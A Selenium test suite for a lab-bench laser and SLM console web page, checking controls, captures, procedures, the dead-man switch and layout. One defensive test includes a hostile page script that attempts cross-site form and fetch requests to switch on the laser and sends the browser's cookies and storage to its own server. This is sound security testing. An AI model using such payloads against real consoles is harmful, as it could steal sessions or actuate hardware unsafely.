"""The console's page in a real browser: Debian's headless Chromium driven by Selenium through Debian's chromedriver,
against the real server (uvicorn, WebSocket) on the small simulated bench."""

from __future__ import annotations

import contextlib
import http.server
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import uvicorn
from console_bench import TOKEN, access, laser_channel, make_console
from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import Select

from benchctl.console.app import create_app
from benchctl.console.core import Console
from benchctl.console.connections import Limits
from benchctl.console.server import listen, server_config
from benchctl.devices.sim.slm import read_displayed
from benchctl.profiles import load_profile

CHROMIUM = "/usr/bin/chromium"
CHROMEDRIVER = "/usr/bin/chromedriver"
BROWSER_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run", "--window-size=1500,1000"]


@dataclass
class Served:
    console: Console
    url: str  # with the token, as printed
    server: uvicorn.Server


@contextlib.contextmanager
def serving(profile_path: Path, tmp_path: Path, deadman_s: float = 30.0,
            limits: Limits | None = None) -> Iterator[Served]:
    """A console on the small bench behind a real uvicorn server (as `benchctl console` configures it, `limits`
    for its connections) on a free port."""
    console = make_console(load_profile(profile_path), tmp_path, deadman_s=deadman_s)
    sock = listen("127.0.0.1", 0)
    port = sock.getsockname()[1]
    server = uvicorn.Server(server_config(create_app(console, access(port)), limits))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    try:
        yield Served(console, f"http://127.0.0.1:{port}/?token={TOKEN}", server)
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        sock.close()
        console.close()


@contextlib.contextmanager
def serve(profile_path: Path, tmp_path: Path, deadman_s: float = 30.0,
          limits: Limits | None = None) -> Iterator[tuple[Console, str]]:
    """`serving`'s console and URL."""
    with serving(profile_path, tmp_path, deadman_s, limits) as served:
        yield served.console, served.url


@pytest.fixture
def served(bench_profile_path: Path, tmp_path: Path) -> Iterator[tuple[Console, str]]:
    with serve(bench_profile_path, tmp_path) as console_and_url:
        yield console_and_url


@pytest.fixture
def browser() -> Iterator[webdriver.Chrome]:
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for argument in BROWSER_ARGS:
        options.add_argument(argument)
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    try:
        yield driver
    finally:
        driver.quit()


def until(condition, timeout_s: float = 20.0):
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        value = condition()
        if value:
            return value
        time.sleep(0.1)
    raise AssertionError(f"not within {timeout_s} s: {condition.__doc__ or condition}")


def frames_seen(browser: webdriver.Chrome) -> int:
    return int(browser.find_element(By.ID, "frame-count").text)


def green_level(browser: webdriver.Chrome) -> float:
    """Mean green value (0-255) of the preview canvas as the page drew it."""
    return browser.execute_script("""
        const c = document.getElementById('frame');
        const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
        let sum = 0; for (let i = 1; i < d.length; i += 4) sum += d[i]; return sum / (d.length / 4);""")


def test_the_page_drives_the_bench(served: tuple[Console, str], browser: webdriver.Chrome, tmp_path: Path) -> None:
    console, url = served
    browser.get(url)
    assert browser.title == "benchctl console"
    until(lambda: browser.find_element(By.ID, "link").text == "connected")
    first = until(lambda: frames_seen(browser))
    until(lambda: frames_seen(browser) >= first + 3)  # the preview's frame counter advances
    dark = green_level(browser)

    row = browser.find_element(By.ID, "laser-green")
    setpoint = row.find_element(By.CLASS_NAME, "setpoint")
    setpoint.clear()
    setpoint.send_keys("2mW")
    row.find_element(By.CLASS_NAME, "set").click()
    until(lambda: laser_channel(2)["setpoint_w"] == pytest.approx(0.002))
    row.find_element(By.CLASS_NAME, "emit").click()  # switching green on
    until(lambda: laser_channel(2)["emission"])
    until(lambda: row.find_element(By.CLASS_NAME, "emit").text == "ON")
    until(lambda: green_level(browser) > dark + 10)  # makes the preview show light

    Select(browser.find_element(By.ID, "kind")).select_by_value("grating")
    Select(browser.find_element(By.ID, "channel")).select_by_value("green")
    period = browser.find_element(By.ID, "period_px")
    period.clear()
    period.send_keys("6")
    before = read_displayed()[1].get("frame", 0)
    browser.find_element(By.ID, "show").click()
    until(lambda: read_displayed()[1].get("frame", 0) > before)  # choosing a grating changes the SLM's frame
    assert console.slm.shown["kind"] == "grating" and console.slm.shown["period_px"] == 6
    until(lambda: "grating" in browser.find_element(By.ID, "slm-shows").text)

    browser.save_screenshot(str(tmp_path / "console.png"))  # kept with the test's files, never in the repository
    browser.find_element(By.ID, "all-off").click()
    until(lambda: not laser_channel(2)["emission"])  # "all off" turns emission off
    until(lambda: row.find_element(By.CLASS_NAME, "emit").text == "off")


def connected(browser: webdriver.Chrome, url: str) -> None:
    browser.get(url)
    until(lambda: browser.find_element(By.ID, "link").text == "connected")
    until(lambda: frames_seen(browser) >= 2)


def test_capture_from_the_page(served: tuple[Console, str], browser: webdriver.Chrome, tmp_path: Path) -> None:
    console, url = served
    browser.set_window_size(1000, 800)  # a laptop's window: every panel fits its column, ALL OFF in view
    connected(browser, url)
    for panel in ("laser-panel", "slm-panel", "capture-panel", "procedure-panel", "view"):
        assert browser.execute_script(f"const e = document.getElementById('{panel}'); "
                                      "return e.scrollWidth <= e.clientWidth;"), panel
    assert browser.find_element(By.ID, "all-off").is_displayed()
    frames = browser.find_element(By.ID, "frames")
    frames.clear()
    frames.send_keys("2")
    browser.find_element(By.ID, "capture").click()
    result = until(lambda: browser.find_element(By.ID, "capture-result").text)
    folder = Path(result.split(": ")[0])
    assert folder.parent == tmp_path / "runs" and folder.is_dir()
    assert result.endswith(": frame-000.dng, frame-001.dng, settings.json")  # the SLM has shown nothing yet
    assert sorted(path.name for path in folder.iterdir()) == ["frame-000.dng", "frame-001.dng", "run.json",
                                                              "settings.json", "steps.jsonl"]
    assert len(json.loads((folder / "settings.json").read_text())["camera"]["frames"]) == 2
    until(lambda: "capture done" in browser.find_element(By.ID, "job").text)


@pytest.mark.slow
def test_a_procedure_from_the_page(served: tuple[Console, str], browser: webdriver.Chrome) -> None:
    """Its dry run shown first, then started: its steps followed live, the devices handed over and back, its
    report opened from the page's link."""
    console, url = served
    connected(browser, url)
    Select(browser.find_element(By.ID, "procedure")).select_by_visible_text("sweep.toml")
    start = browser.find_element(By.ID, "start")
    assert not start.is_enabled()  # no start before the dry run
    browser.find_element(By.ID, "dry-run").click()
    lines = browser.find_element(By.ID, "procedure-lines")
    until(lambda: lines.text.endswith("dry run: nothing was touched"))
    assert "power-sweep" in lines.text
    until(start.is_enabled)
    start.click()
    until(lambda: "run folder: " in lines.text)  # the run's own output, as it goes
    until(lambda: "[4/4, about " in lines.text, timeout_s=180)  # its steps, one after the other
    until(lambda: "ended with exit code" in browser.find_element(By.ID, "events").text, timeout_s=180)
    assert console.procedures.returncode == 0, console.procedures.lines
    assert not browser.find_element(By.ID, "stop").is_enabled()  # nothing left to stop
    report = browser.find_element(By.ID, "report")
    until(report.is_displayed)
    until(lambda: console.laser.held.connected and console.camera.connected)  # the devices are back
    report.click()
    browser.switch_to.window(browser.window_handles[-1])
    until(lambda: browser.title == "Laser power sweep")  # the run's report.html
    assert "/api/procedures/report?token=" in browser.current_url and "<table" in browser.page_source


def test_a_live_page_keeps_the_light_on_and_a_closed_one_does_not(bench_profile_path: Path, tmp_path: Path,
                                                                   browser: webdriver.Chrome) -> None:
    """The page's heartbeats answer what the server sends, so a page whose timers do not run (a browser slows a
    hidden tab's timers to once a minute) still keeps the light on; leaving the page switches it off in time."""
    with serve(bench_profile_path, tmp_path, deadman_s=1.0) as (console, url):
        connected(browser, url)
        browser.execute_script("for (let id = 1; id < 100000; id++) clearInterval(id);")  # no timer heartbeats
        console.set_power("green", "1mW")
        row = browser.find_element(By.ID, "laser-green")
        row.find_element(By.CLASS_NAME, "emit").click()
        until(lambda: laser_channel(2)["emission"])
        time.sleep(4.0)  # four dead-man timeouts
        assert laser_channel(2)["emission"] and not any("dead-man" in line for line in console.events)
        browser.get("about:blank")  # the page goes away
        left = time.monotonic()
        until(lambda: not laser_channel(2)["emission"], timeout_s=10)
        assert time.monotonic() - left < 2.5
        until(lambda: any("dead-man" in line for line in console.events))


class OtherServer(http.server.ThreadingHTTPServer):
    """Another web server on this computer (another port): it records every request the browser sends it, and its
    page tries to move the console's laser from the browser (a form post, fetch with credentials, a WebSocket)."""

    def __init__(self, console_port: int) -> None:
        self.seen: list[str] = []
        self.console = f"127.0.0.1:{console_port}"
        super().__init__(("127.0.0.1", 0), _Recording)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"


class _Recording(http.server.BaseHTTPRequestHandler):
    server: OtherServer

    def _record(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        self.server.seen.append(f"{self.requestline}\n{self.headers}\n{body.decode('latin-1')}")
        console = self.server.console
        page = f"""<!doctype html><title>other</title><body><form id="f" method="post" target="sink"
            action="http://{console}/api/laser/green/emission" enctype="text/plain"><input name='{{"on": true, "x": "'
            value='"}}'></form><iframe name="sink"></iframe><img src="/pixel.png"><script>
            document.getElementById("f").submit();
            fetch("http://{console}/api/laser/green/power", {{method: "POST", credentials: "include", mode: "no-cors",
                  body: '{{"power": "30mW"}}'}}).catch(() => 0);
            const ws = new WebSocket("ws://{console}/ws");
            ws.onopen = () => ws.send("heartbeat");
            fetch("/echo", {{method: "POST", credentials: "include", body: document.cookie + "|" +
                  JSON.stringify(localStorage) + "|" + JSON.stringify(sessionStorage)}})
              .finally(() => setTimeout(() => {{ document.title = "done"; }}, 1500));
            </script></body>"""
        data = page.encode()
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = _record

    def log_message(self, *args: object) -> None:
        pass


def test_another_local_server_never_receives_what_moves_the_laser(served: tuple[Console, str],
                                                                  browser: webdriver.Chrome) -> None:
    """The operator opens the console, uses it, then visits a page of another web server on this computer (cookies
    ignore ports: round 4's cookie carried the token there). Nothing that server receives, and nothing its page
    does in the browser, can move the laser."""
    console, url = served
    connected(browser, url)
    row = browser.find_element(By.ID, "laser-green")
    row.find_element(By.CLASS_NAME, "setpoint").clear()
    row.find_element(By.CLASS_NAME, "setpoint").send_keys("3mW")
    row.find_element(By.CLASS_NAME, "set").click()
    until(lambda: laser_channel(2)["setpoint_w"] == pytest.approx(0.003))  # the page works, with its token
    other = OtherServer(int(url.split(":")[2].split("/")[0]))
    threading.Thread(target=other.serve_forever, daemon=True).start()
    try:
        browser.switch_to.new_window("tab")  # the console's page stays open beside it
        browser.get(other.url + "/")
        until(lambda: browser.title == "done")
        until(lambda: len(other.seen) >= 3)  # the page, its image and what its script could read
    finally:
        other.shutdown()
        other.server_close()
    received = "\n".join(other.seen)
    assert "GET / HTTP" in received and "POST /echo" in received and "|{}|{}" in received, received
    assert TOKEN not in received, received
    assert "benchctl" not in received.lower(), received  # no cookie, no header of the console's
    assert not laser_channel(2)["emission"] and laser_channel(2)["setpoint_w"] == pytest.approx(0.003)
    assert not any("emission ON" in line for line in console.events)


def test_a_page_that_lost_its_console_greys_out_and_says_the_laser_state_is_unknown(
        bench_profile_path: Path, tmp_path: Path, browser: webdriver.Chrome) -> None:
    """A new user saw "green ON, out 6.995 mW" long after the console had stopped: a page that lost its console
    knows nothing of the bench."""
    with serving(bench_profile_path, tmp_path) as served:
        connected(browser, served.url)
        served.console.set_power("green", "1mW")
        row = browser.find_element(By.ID, "laser-green")
        row.find_element(By.CLASS_NAME, "emit").click()
        until(lambda: row.find_element(By.CLASS_NAME, "emit").text == "ON")
        assert not browser.find_element(By.ID, "lost").is_displayed()
        served.server.should_exit = True  # the console stops (here without switching the light off first)
        until(lambda: "lost" in browser.find_element(By.TAG_NAME, "body").get_attribute("class"))
    banner = browser.find_element(By.ID, "lost")
    assert banner.is_displayed() and "laser's state is UNKNOWN (possibly ON)" in banner.text
    assert "benchctl laser off" in banner.text
    enabled = browser.execute_script("return [...document.querySelectorAll('button, input, select')]"
                                     ".filter(e => !e.disabled).map(e => e.id || e.className);")
    assert enabled == [], enabled
    assert row.find_element(By.CLASS_NAME, "emit").text == "?" and "ON" not in row.text
    assert row.find_element(By.CLASS_NAME, "readback").text == "unknown"
    assert browser.find_element(By.TAG_NAME, "main").value_of_css_property("opacity") == "0.45"
    browser.save_screenshot(str(tmp_path / "lost.png"))


def page_width(browser: webdriver.Chrome) -> list[int]:
    return browser.execute_script("const e = document.documentElement; return [e.scrollWidth, e.clientWidth];")


def cut_off(browser: webdriver.Chrome, panel: str) -> list[str]:
    """The visible controls of `panel` that reach past its right edge (off its column, or off the screen)."""
    return browser.execute_script("""
        const panel = document.getElementById(arguments[0]).getBoundingClientRect();
        return [...document.getElementById(arguments[0]).querySelectorAll('input, select, button, img')]
          .filter(e => e.offsetParent !== null && e.getBoundingClientRect().right > panel.right + 0.5)
          .map(e => e.id || e.className || e.tagName);""", panel)


@pytest.mark.parametrize("width", [1000, 1400])
def test_nothing_is_wider_than_the_window(served: tuple[Console, str], browser: webdriver.Chrome, tmp_path: Path,
                                         width: int) -> None:
    """The hologram form was wider than the window at 1000 and 1400 px (the colour and iterations off-screen), and a
    click for the zoom pushed more out."""
    console, url = served
    browser.set_window_size(width, 900)
    connected(browser, url)
    Select(browser.find_element(By.ID, "kind")).select_by_value("hologram")
    browser.find_element(By.CSS_SELECTOR, "#zernike-box summary").click()
    assert page_width(browser)[0] <= page_width(browser)[1], page_width(browser)
    assert cut_off(browser, "slm-panel") == [] and cut_off(browser, "laser-panel") == []
    browser.find_element(By.ID, "frame").click()  # the 1:1 zoom appears beside the histogram
    until(lambda: browser.find_element(By.ID, "zoom-box").is_displayed())
    until(lambda: browser.execute_script("return document.getElementById('zoom').naturalWidth > 0;"))
    assert page_width(browser)[0] <= page_width(browser)[1], page_width(browser)
    assert cut_off(browser, "view") == [] and cut_off(browser, "slm-panel") == []
    assert browser.find_element(By.ID, "all-off").is_displayed()
    browser.save_screenshot(str(tmp_path / f"console-{width}.png"))
